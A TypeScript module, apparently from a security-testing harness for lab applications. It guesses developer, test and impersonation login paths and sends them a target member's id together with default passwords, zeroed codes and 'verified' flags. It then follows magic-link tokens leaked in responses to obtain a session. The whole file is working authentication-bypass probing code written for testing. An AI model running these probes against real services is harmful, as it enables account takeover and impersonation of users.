/** Paths beside Auth.js that may make a session: sign-ins of developers and of support, hand-overs, links. */
import type { LabDescription } from '../../lab/lab-description.ts';
import { LEFT_ALONE } from '../../visitor/forms.ts';
import { filledWith, isDynamic } from '../doors/crawl.ts';
import { send } from '../doors/send.ts';
import { filledWithOffer, USUAL_FIELDS, type Victim, withPlus } from './offers.ts';
import type { Try } from './tries.ts';

/** Words in paths that make, or hand over, a session. */
const WAY =
  /log-?in|sign-?in|sign-?on|sso|auth|\bdev|test|demo|imperson|support|guest|magic|link|token|session|hand-?over|enter|join|invite|otp|code|verify|exchange|switch|become|act-?as|login-?as/i;

/** Where developers leave their sign-ins (seen in public repositories). */
const GUESSED = [
  '/dev-login',
  '/dev/login',
  '/api/dev-login',
  '/api/dev/login',
  '/login/dev',
  '/test-login',
  '/api/test-login',
  '/api/test/login',
  '/login-as',
  '/api/login-as',
  '/impersonate',
  '/api/impersonate',
  '/api/login',
  '/api/mock-login',
  '/demo',
  '/sso',
  '/api/sso',
  '/auto-login',
];

const PATHS_MAX = 50;

/**
 * Paths to try: those that the sources name and that read like a sign-in, then guesses.
 *
 * @param guessed whether guesses are tried
 */
export function waysBeside(
  { app, config, routes }: LabDescription,
  victim: Victim,
  guessed = true,
): string[] {
  const own = [...(routes?.paths ?? []), ...(routes?.posts ?? [])].flatMap(({ path }) =>
    WAY.test(path) ? [isDynamic(path) ? filledWith(path, victim.id) : path] : [],
  );
  const otp = config.pages.ownOtp ? [config.pages.ownOtp.send, config.pages.ownOtp.verify] : [];
  return [...new Set([...own, ...(guessed ? GUESSED : [])])]
    .filter(
      (path) =>
        !path.startsWith(`${app.basePath}/`) &&
        path !== app.basePath &&
        !LEFT_ALONE.test(path) &&
        ![...otp, config.pages.endSession, config.pages.backChannelLogout].includes(path),
    )
    .slice(0, PATHS_MAX);
}

/** Everything that such a path might ask for, of a member whom somebody would like to be. */
export const everythingOf = (victim: Victim, token: string): Record<string, string> => ({
  ...filledWithOffer(USUAL_FIELDS, { told: '', who: victim, password: 'password', code: '000000', token }),
  user: victim.id,
  customer: victim.id,
  name: victim.name,
});

/** Paths in an answer of JSON that hold a token or a code: links that should have gone to somebody's mailbox. */
export function linksToFollow(text: string, origin: string): string[] {
  const found: string[] = [];
  const collect = (value: unknown): void => {
    if (typeof value === 'object' && value !== null) for (const each of Object.values(value)) collect(each);
    else if (
      typeof value === 'string' &&
      /token|code|key|magic|ticket/i.test(value) &&
      URL.canParse(value, origin)
    ) {
      const url = new URL(value, origin);
      if (url.origin === origin && url.pathname.length > 1) found.push(url.pathname + url.search);
    }
  };
  try {
    collect(JSON.parse(text));
  } catch {
    return [];
  }
  return found.slice(0, 3);
}

/**
 * Requests for each path: by query, as JSON, as a form, with the number in both spellings, a token in the header; and the links in their answers.
 *
 * @param token what is given as one; `told` reads after "somebody who gave", and `guessed` as for `waysBeside`
 */
export function triesBeside(
  lab: LabDescription,
  victim: Victim,
  { token, told, guessed }: { token: string; told: string; guessed: boolean },
): Try[] {
  const fields = everythingOf(victim, token);
  const { origin } = lab.app;
  const said = Object.values(fields);
  return waysBeside(lab, victim, guessed).flatMap((path): Try[] => {
    const asks: [string, Parameters<typeof send>[2]][] = [
      [`GET ${path}`, { path: `${path}${path.includes('?') ? '&' : '?'}${new URLSearchParams(fields)}` }],
      [`POST ${path}`, { path, method: 'POST', json: { ...fields, verified: true } }],
      [`POST ${path}`, { path, method: 'POST', json: { ...withPlus(fields, victim), verified: true } }],
      [`POST ${path} (form)`, { path, method: 'POST', form: { ...fields, verified: 'true' } }],
      // Programs of people's telephones give a token in a header; who guesses has none that is worth it.
      ...(guessed
        ? []
        : ([
            [
              `POST ${path}`,
              { path, method: 'POST', json: {}, headers: { authorization: `Bearer ${token}` } },
            ],
          ] satisfies [string, Parameters<typeof send>[2]][])),
    ];
    return asks.map(([way, ask]) => ({
      way,
      told: `what anybody knows of a member, and ${told}`,
      said,
      async send(browser) {
        const answer = await send(browser, origin, ask);
        for (const link of answer ? linksToFollow(answer.text, origin) : []) {
          const next = await send(browser, origin, { path: link });
          if (next?.setCookies.length) return next;
        }
        return answer;
      },
    }));
  });
}
